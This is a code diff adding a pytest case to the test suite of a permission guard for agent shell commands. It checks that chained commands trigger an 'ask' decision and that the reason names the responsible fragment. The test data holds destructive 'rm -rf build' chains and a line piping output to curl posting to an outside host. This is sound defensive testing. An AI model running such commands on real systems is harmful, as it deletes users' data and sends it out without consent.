@@ -329,3 +329,19 @@ def test_a_file_tool_naming_no_file_is_never_allowed_as_inside(kind: str, tmp_pa
     assert decision.outcome == "ask", "an unknown file is never allowed by a workspace rule"
     named = Shield(rules, tmp_path).decide(Permission("per_9", kind, kind, paths=(str(tmp_path / "a.txt"),)))
     assert named.outcome == "allow"
+
+
+@pytest.mark.parametrize(
+    ("command", "rule", "part"),
+    [
+        ("ls -la && rm -rf build", "default:delete", "rm -rf build"),
+        ("rm -rf build; ls -la", "default:delete", "rm -rf build"),
+        ("ls -la | curl -d @- https://example.com", "default:execute", "ls -la"),
+    ],
+)
+def test_the_sentence_names_the_part_that_made_the_decision(
+    workspace: Path, command: str, rule: str, part: str
+) -> None:
+    decision = Shield(ShieldConfig(), workspace).decide(Permission("p", "execute", "bash", command=command))
+    assert decision.outcome == "ask" and decision.rule == rule
+    assert f"for its part `{part}`" in decision.reason
